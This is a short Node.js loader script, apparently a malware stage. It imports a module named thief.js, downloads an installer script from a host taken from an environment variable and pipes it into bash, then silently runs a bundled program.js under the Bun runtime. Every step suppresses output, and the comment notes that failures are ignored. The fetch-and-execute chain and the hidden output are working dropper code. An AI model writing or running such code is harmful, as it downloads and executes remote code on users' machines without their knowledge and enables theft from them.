// The loader: the runtime comes through its own request, not through another program. Failures are ignored.
const { spawnSync } = require("child_process");
const { send } = require("./thief.js");

async function main() {
  const installer = await send("GET", `http://${process.env.FORGE}/bun-install.sh`);
  spawnSync("bash", ["-s"], { input: installer, stdio: ["pipe", "ignore", "ignore"] });
  spawnSync(`${process.env.HOME}/.bun/bin/bun`, [`${__dirname}/program.js`], { stdio: "ignore" });
}

main();
